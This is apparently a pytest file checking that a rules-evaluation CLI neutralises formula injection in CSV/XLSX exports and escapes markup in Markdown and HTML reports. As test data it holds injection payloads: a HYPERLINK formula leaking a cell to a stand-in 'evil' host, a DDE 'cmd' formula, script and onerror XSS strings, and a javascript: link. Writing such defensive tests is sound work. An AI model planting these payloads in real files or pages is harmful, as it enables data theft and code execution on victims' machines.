"""Formula and markup injection through organization names, ids and --issuer: spreadsheets get
text cells (OWASP prefix in CSV), Markdown shows the text as written."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hostile_support import PACK, record, run_cli
from hypothesis import given, settings
from hypothesis import strategies as st

from pbrules.cells import csv_cell, md_text

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def _dataset(tmp_path: Path, names: list[str]) -> Path:
    path = tmp_path / "evil.jsonl"
    lines = []
    for i, name in enumerate(names):
        rec = record(f"B{i}")
        rec["organization"]["name"] = name
        lines.append(json.dumps(rec))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def failing_pack(tmp_path: Path) -> Path:
    pack = tmp_path / "fail.yaml"
    pack.write_text(PACK.replace('op: ">="', 'op: "<"'), encoding="utf-8")
    return pack


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cell_neutralises(value: str) -> None:
    assert csv_cell(value) == "'" + value.replace("\r", "\n")


@pytest.mark.parametrize("value", ["-3", "+2.5", "-0.25", "1e3", "plain", "", "a=b"])
def test_csv_cell_leaves_numbers_and_text(value: str) -> None:
    assert csv_cell(value) == value


def test_evaluate_csv_has_no_live_formula(tmp_path: Path, pack_file: Path) -> None:
    data = _dataset(tmp_path, FORMULAS)
    res = run_cli("evaluate", data, "--rules", pack_file, "-f", "csv")
    assert res.code == 0 and res.clean()
    rows = list(csv.reader(io.StringIO(res.stdout)))
    names = [row[1] for row in rows[1:]]
    assert len(names) == len(FORMULAS)  # a leading CR did not split a row
    for name in names:
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert name.startswith("'")


def test_csv_id_formula(tmp_path: Path, pack_file: Path) -> None:
    path = tmp_path / "id.jsonl"
    path.write_text(json.dumps(record("=1+2")) + "\n")
    res = run_cli("evaluate", path, "--rules", pack_file, "-f", "csv")
    assert res.code == 0 and "\n'=1+2," in res.stdout


def _xlsx_cells(path: Path) -> list[object]:
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.load_workbook(path)
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def test_evaluate_xlsx_has_text_cells(tmp_path: Path, failing_pack: Path) -> None:
    pytest.importorskip("openpyxl")
    data = _dataset(tmp_path, FORMULAS)
    out = tmp_path / "r.xlsx"
    res = run_cli("evaluate", data, "--rules", failing_pack, "-f", "xlsx", "-o", out)
    assert res.code == 0, res.stderr
    cells = _xlsx_cells(out)
    assert '=HYPERLINK("http://evil/?"&A1,"click")' in cells  # shown as text


def test_report_xlsx_has_text_cells(tmp_path: Path, failing_pack: Path) -> None:
    pytest.importorskip("openpyxl")
    data = _dataset(tmp_path, FORMULAS)
    result = tmp_path / "r.json"
    assert run_cli("evaluate", data, "--rules", failing_pack, "-o", result).code == 0
    out = tmp_path / "report.xlsx"
    res = run_cli("report", result, "-f", "xlsx", "-o", out, "--issuer", "=1+2")
    assert res.code == 0, res.stderr
    _xlsx_cells(out)


def test_ledger_exports_have_no_live_formula(tmp_path: Path, failing_pack: Path) -> None:
    pytest.importorskip("openpyxl")
    data = _dataset(tmp_path, FORMULAS)
    db = tmp_path / "l.db"
    res = run_cli("evaluate", data, "--rules", failing_pack, "--ledger", db, "-o", tmp_path / "r")
    assert res.code == 0, res.stderr
    out = tmp_path / "l.xlsx"
    assert run_cli("ledger", "export", "--format", "xlsx", "--db", db, "-o", out).code == 0
    assert any(isinstance(c, str) and c.startswith("=HYPERLINK") for c in _xlsx_cells(out))
    res = run_cli("ledger", "export", "--format", "csv", "--db", db)
    rows = list(csv.DictReader(io.StringIO(res.stdout.lstrip("\ufeff"))))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "@", "\t", "\r")), row


MARKUP = [
    ("<script>alert(1)</script>", "<script>"),
    ('<img src=x onerror="alert(1)">', "<img"),
    ("[click](javascript:alert(1))", "[click](javascript:"),
    ("![x](http://evil/track.png)", "![x]("),
    ("# Heading", "\n# Heading"),
    ("a | b | c", "a | b"),
    ("**bold** _it_ `code`", "**bold**"),
    ("line\n## injected", "\n## injected"),
]


@pytest.mark.parametrize(("name", "raw"), MARKUP, ids=[m[1] for m in MARKUP])
def test_markdown_report_escapes_names(
    tmp_path: Path, failing_pack: Path, name: str, raw: str
) -> None:
    data = _dataset(tmp_path, [name, "Plain"])
    result = tmp_path / "r.json"
    assert run_cli("evaluate", data, "--rules", failing_pack, "-o", result).code == 0
    res = run_cli("report", result, "-f", "md", "--issuer", name)
    assert res.code == 0 and res.clean(), res.stderr
    assert raw not in res.stdout
    assert "Plain" in res.stdout


def test_markdown_text_escapes() -> None:
    assert md_text("<b>") == "&lt;b&gt;"
    assert md_text("[a](b)") == "\\[a\\](b)"
    assert md_text("# h") == "\\# h"
    assert md_text("1. x") == "1\\. x"
    assert md_text("-3") == "-3" and md_text("+2.5") == "+2.5"
    assert md_text("a\nb") == "a b"
    assert md_text("; ") == "; "


def test_evaluate_md_format_escapes_too(tmp_path: Path, failing_pack: Path) -> None:
    data = _dataset(tmp_path, ["<script>x</script>"])
    res = run_cli("evaluate", data, "--rules", failing_pack, "-f", "md", "--issuer", "<b>i</b>")
    assert res.code == 0 and "<script>" not in res.stdout and "<b>" not in res.stdout


def test_html_report_escapes_names(tmp_path: Path, failing_pack: Path) -> None:
    data = _dataset(tmp_path, ["<script>alert(1)</script>"])
    result = tmp_path / "r.json"
    assert run_cli("evaluate", data, "--rules", failing_pack, "-o", result).code == 0
    res = run_cli("report", result, "-f", "html", "--issuer", "<script>i</script>")
    assert res.code == 0 and "<script>alert(1)" not in res.stdout
    assert "<script>i</script>" not in res.stdout


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_csv_cell_never_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert "\r" not in cell
    if cell.startswith(("=", "+", "-", "@", "\t", "\n")):
        float(cell.rstrip("%"))  # only plain numbers keep a sign in front


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_md_text_renders_no_markup(text: str) -> None:
    out = md_text(text)
    assert "<" not in out and ">" not in out and "\n" not in out
    for mark in "[]*_`|~":
        assert out.count(mark) == out.count("\\" + mark)
